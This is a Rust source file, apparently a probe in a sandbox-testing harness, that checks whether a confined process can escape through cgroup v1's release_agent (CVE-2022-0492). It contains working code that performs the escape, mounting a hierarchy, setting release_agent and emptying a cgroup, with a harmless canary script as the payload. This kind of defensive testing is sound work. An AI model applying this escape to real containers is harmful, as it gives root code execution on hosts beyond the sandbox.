//! cgroup-release-agent: make the kernel run a program as root through cgroup v1's
//! release_agent (CVE-2022-0492).

use crate::kit::{conclude, parse_or_report, scratch_name, Oracle};
use crate::world::{hold_until_nudged, nudge_named, Look, Planted, Watcher, World};
use crate::{
    kv, Arrangement, InsideReport, Judgement, Layer, Limits, Probe, ProbeClass, ProbeError,
    ProbeMeta, RunObservation, Steps,
};
use nix::mount::{mount, umount2, MntFlags, MsFlags};
use std::ffi::CString;
use std::fs;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// The longest judge waits for the kernel's release agent (it runs from a workqueue).
const AGENT_WAIT: Duration = Duration::from_secs(3);

/// How often judge looks at the canaries.
const POLL: Duration = Duration::from_millis(20);

/// How long the inside keeps its emptied cgroup where it cannot hear from the outside (its
/// signal mask or name cannot be set). Removing the cgroup cancels a release agent the kernel
/// has queued but not yet run (css_free_rwork_fn: cancel_work_sync), so the cgroup must outlive
/// the agent's start.
const SETTLE: Duration = Duration::from_millis(500);

/// The longest the inside keeps its emptied cgroup waiting for the outside's word that the
/// release agent ran (its canary is written): as long as the judge waits for an agent.
const SETTLE_BOUND: Duration = AGENT_WAIT;

/// How often the outside looks for the canary while the payload runs.
const WATCH: Duration = Duration::from_millis(10);

/// The name the inside takes while it keeps its emptied cgroup for the release agent: unique to
/// the attempt (several attempts of this probe run at once), at most 15 bytes.
fn settling_comm(nonce: &str) -> Option<CString> {
    CString::new(format!("ra-{}", &nonce[..nonce.len().min(12)])).ok()
}

static META: ProbeMeta = ProbeMeta {
    id: "cgroup-release-agent",
    title: "Run a program as root through cgroup v1's release_agent",
    technique: "A cgroup v1 hierarchy has a release_agent file: when a cgroup with \
        notify_on_release set becomes empty, the kernel runs that program as root in the initial \
        namespaces, with the cgroup's path as its argument. Whoever can mount a v1 hierarchy \
        (even a named one with no controller, on a cgroup2-only machine) and write the file runs \
        code outside any sandbox. The inside mounts one, points release_agent at a program the \
        outside planted (a path of the outside's filesystem: the kernel resolves it there), and \
        empties a cgroup named after the nonce.",
    oracle: "The outside finds its canary file written by the release agent, holding the cgroup \
        path with the per-attempt nonce. It waits until a release agent of its own, queued the \
        same way at judge time, has run (at most 3 s).",
    layers: &[
        Layer::Caps,
        Layer::UserNs,
        Layer::Uid,
        Layer::Seccomp,
        Layer::CgroupNs,
        Layer::Landlock,
    ],
    references: &[
        "CVE-2022-0492 (release_agent without capability check)",
        "Felix Wilhelm's 2019 release_agent escape; CDK, ctrsploit",
    ],
    class: ProbeClass::Plain,
};

pub struct CgroupReleaseAgent;

struct State {
    /// Stopped before the directory goes.
    _watcher: Watcher<()>,
    dir: Planted,
    canary: PathBuf,
    nonce: String,
}

/// While the payload runs: once the canary is written (the agent has run), nudge the inside
/// waiting under its attempt's name, so it removes its cgroup no sooner and no later than needed.
fn nudge_after_agent(canary: PathBuf, nonce: &str) -> Watcher<()> {
    let name = settling_comm(nonce);
    Watcher::start(WATCH, (), move |_| match &name {
        Some(name) if fs::metadata(&canary).is_ok_and(|m| m.len() > 0) && nudge_named(name) > 0 => {
            Look::Enough
        }
        _ => Look::Again,
    })
}

/// The verdict on the canary's content (None: the canary was never written).
fn classify(canary: Option<&str>, nonce: &str) -> Oracle {
    match canary {
        Some(text) if !nonce.is_empty() && text.contains(nonce) => Oracle::Hit(format!(
            "the kernel ran the release agent for cgroup {}",
            text.trim()
        )),
        Some(text) => Oracle::Undecided(format!(
            "the release agent ran for another cgroup: {}",
            text.trim()
        )),
        None => Oracle::Miss("the release agent never ran".to_string()),
    }
}

impl Probe for CgroupReleaseAgent {
    fn meta(&self) -> &'static ProbeMeta {
        &META
    }

    fn arrange(&self, world: &World, _limits: &Limits) -> Result<Arrangement, ProbeError> {
        let id = META.id;
        let salt = world.fresh_secret().map_err(ProbeError::world(id))?;
        let nonce = salt[..16].to_string();
        let dir = world
            .scratch_dir("release-agent")
            .map_err(ProbeError::world(id))?;
        let canary = dir.path().join("canary");
        let agent = dir.path().join("agent.sh");
        let script = format!("#!/bin/sh\necho \"$1\" > {}\n", canary.display());
        crate::world::write_new_file(&agent, &script, 0o755).map_err(ProbeError::world(id))?;
        Ok(Arrangement::new(
            vec![
                kv("agent", agent.display()),
                kv("nonce", &nonce),
                kv("scratch", "/tmp"),
            ],
            State {
                _watcher: nudge_after_agent(canary.clone(), &nonce),
                dir,
                canary,
                nonce,
            },
        ))
    }

    fn attempt(&self, args: &[String]) -> InsideReport {
        let mut steps = Steps::new(META.id);
        if let Some((agent, nonce, scratch)) = parse_or_report(&mut steps, args, |a| {
            let nonce = a.str("nonce")?;
            if !nonce.bytes().all(|b| b.is_ascii_alphanumeric()) {
                return Err(crate::ArgError::Invalid {
                    key: "nonce".into(),
                    value: nonce.into(),
                    reason: "letters and digits only (it names a cgroup)".into(),
                });
            }
            Ok((
                a.str("agent")?.to_string(),
                nonce.to_string(),
                a.str("scratch")?.to_string(),
            ))
        }) {
            attempt(&mut steps, &agent, &nonce, Path::new(&scratch));
        }
        steps.finish()
    }

    fn judge(&self, _world: &World, arrangement: Arrangement, run: &RunObservation) -> Judgement {
        let Some(state) = arrangement.state::<State>() else {
            return Judgement::inconclusive(
                "cgroup-release-agent: arrangement state of the wrong type",
            );
        };
        let read = || match fs::read_to_string(&state.canary) {
            Ok(text) if !text.is_empty() => Some(text),
            _ => None,
        };
        let deadline = Instant::now() + AGENT_WAIT;
        let mut canary = read();
        if canary.is_none() {
            // A release agent the inside queued was queued before the payload ended (the
            // payload kept its emptied cgroup until nudged, or for SETTLE_BOUND, or SETTLE where
            // it could not be nudged). Instead of always waiting the whole AGENT_WAIT for one
            // that never comes, the outside queues a release agent of its own the same way,
            // through the same kernel path, now: once that one has run, one queued earlier has
            // had its turn, and the canary is read a last time. Without a control (no named v1
            // hierarchy here) the full wait stands.
            let control = Control::start(state.dir.path(), &state.nonce).ok();
            canary = loop {
                if let Some(text) = read() {
                    break Some(text);
                }
                if Instant::now() >= deadline {
                    break None;
                }
                if control.as_ref().is_some_and(Control::ran) {
                    break read();
                }
                std::thread::sleep(POLL);
            };
        }
        conclude(classify(canary.as_deref(), &state.nonce), run)
    }
}

/// The outside's own release agent, queued at judge time: a named cgroup v1 hierarchy of the
/// outside's, a control agent writing its own canary, and a cgroup emptied by a child process
/// leaving it. Unmounted on Drop.
struct Control {
    mnt: PathBuf,
    group: PathBuf,
    canary: PathBuf,
}

impl Control {
    fn start(dir: &Path, nonce: &str) -> std::io::Result<Control> {
        let canary = dir.join("control-canary");
        let agent = dir.join("control.sh");
        let script = format!("#!/bin/sh\necho \"$1\" > {}\n", canary.display());
        crate::world::write_new_file(&agent, &script, 0o755)
            .map_err(|e| std::io::Error::other(e.to_string()))?;
        let mnt = dir.join("control-mnt");
        fs::create_dir(&mnt)?;
        let options = format!("none,name=breakout-control-{nonce}");
        if let Err(e) = mount::<str, Path, str, str>(
            Some("cgroup"),
            &mnt,
            Some("cgroup"),
            MsFlags::MS_NOSUID | MsFlags::MS_NODEV | MsFlags::MS_NOEXEC,
            Some(options.as_str()),
        ) {
            let _ = fs::remove_dir(&mnt);
            return Err(e.into());
        }
        let group = mnt.join("control");
        let control = Control {
            mnt: mnt.clone(),
            group: group.clone(),
            canary,
        };
        fs::write(
            mnt.join("release_agent"),
            agent.as_os_str().as_encoded_bytes(),
        )?;
        fs::create_dir(&group)?;
        fs::write(group.join("notify_on_release"), "1")?;
        // A child that waits on its stdin: moved into the group, then let go, it leaves the
        // group empty and the kernel queues the agent.
        let mut child = std::process::Command::new("/bin/cat")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()?;
        let moved = fs::write(group.join("cgroup.procs"), child.id().to_string());
        drop(child.stdin.take());
        child.wait()?;
        moved?;
        Ok(control)
    }

    fn ran(&self) -> bool {
        fs::metadata(&self.canary).is_ok_and(|m| m.len() > 0)
    }
}

impl Drop for Control {
    fn drop(&mut self) {
        // The group is empty (its one process exited); rmdir may race the agent's bookkeeping.
        for _ in 0..10 {
            if fs::remove_dir(&self.group).is_ok() || !self.group.exists() {
                break;
            }
            std::thread::sleep(POLL);
        }
        let _ = umount2(&self.mnt, MntFlags::MNT_DETACH);
        let _ = fs::remove_dir(&self.mnt);
    }
}

fn write(steps: &mut Steps, action: &str, path: &Path, value: &str) -> bool {
    steps
        .io(
            action,
            format!("write({}, {value:?})", path.display()),
            || fs::write(path, value),
        )
        .is_some()
}

fn attempt(steps: &mut Steps, agent: &str, nonce: &str, scratch: &Path) {
    let mnt = scratch.join(scratch_name("breakout-cgv1"));
    if steps
        .io("a mount point", format!("mkdir({})", mnt.display()), || {
            fs::create_dir(&mnt)
        })
        .is_none()
    {
        return;
    }
    let options = format!("none,name=breakout-{nonce}");
    let mounted = steps
        .call(
            "mount a named cgroup v1 hierarchy",
            format!("mount(cgroup, {}, cgroup, {options})", mnt.display()),
            || {
                mount::<str, Path, str, str>(
                    Some("cgroup"),
                    &mnt,
                    Some("cgroup"),
                    MsFlags::empty(),
                    Some(options.as_str()),
                )
            },
        )
        .is_some();
    if mounted {
        release(steps, &mnt, agent, nonce);
        steps.call(
            "unmount",
            format!("umount2({}, MNT_DETACH)", mnt.display()),
            || umount2(&mnt, MntFlags::MNT_DETACH),
        );
    }
    steps.io(
        "remove the mount point",
        format!("rmdir({})", mnt.display()),
        || fs::remove_dir(&mnt),
    );
}

/// Sets the agent, then moves ourselves into a notify_on_release cgroup and out again.
fn release(steps: &mut Steps, mnt: &Path, agent: &str, nonce: &str) {
    let group = mnt.join(format!("breakout-{nonce}"));
    if steps
        .io(
            "a cgroup to empty",
            format!("mkdir({})", group.display()),
            || fs::create_dir(&group),
        )
        .is_none()
    {
        return;
    }
    let ok = write(
        steps,
        "ask for release notification",
        &group.join("notify_on_release"),
        "1",
    ) && write(
        steps,
        "point the agent at the outside's program",
        &mnt.join("release_agent"),
        agent,
    );
    if ok {
        // "0" is the writer itself, whatever pid namespace it is in.
        let me = "0".to_string();
        if write(steps, "enter the cgroup", &group.join("cgroup.procs"), &me) {
            // Leaving empties the group: the kernel queues the release agent.
            write(steps, "leave it empty", &mnt.join("cgroup.procs"), &me);
            // Keep the cgroup until the outside has seen the agent run (its canary), which it
            // says with a signal; a cgroup removed sooner cancels the queued agent.
            match settling_comm(nonce) {
                Some(name) => {
                    hold_until_nudged(&name, SETTLE, SETTLE_BOUND);
                }
                None => std::thread::sleep(SETTLE),
            }
        }
    }
    steps.io(
        "remove the cgroup",
        format!("rmdir({})", group.display()),
        || fs::remove_dir(&group),
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_nonce_cgroup_counts() {
        assert!(matches!(
            classify(Some("/breakout-abc\n"), "abc"),
            Oracle::Hit(_)
        ));
        assert!(matches!(
            classify(Some("/other\n"), "abc"),
            Oracle::Undecided(_)
        ));
        assert!(matches!(classify(None, "abc"), Oracle::Miss(_)));
    }

    #[test]
    fn nonce_must_be_a_plain_name() {
        let report = CgroupReleaseAgent.attempt(&[
            "agent=/x".into(),
            "nonce=../../etc".into(),
            "scratch=/tmp".into(),
        ]);
        assert_eq!(report.steps[0].action, "parse arguments");
        assert!(report.steps[0].data.as_deref().unwrap().contains("nonce"));
    }
}
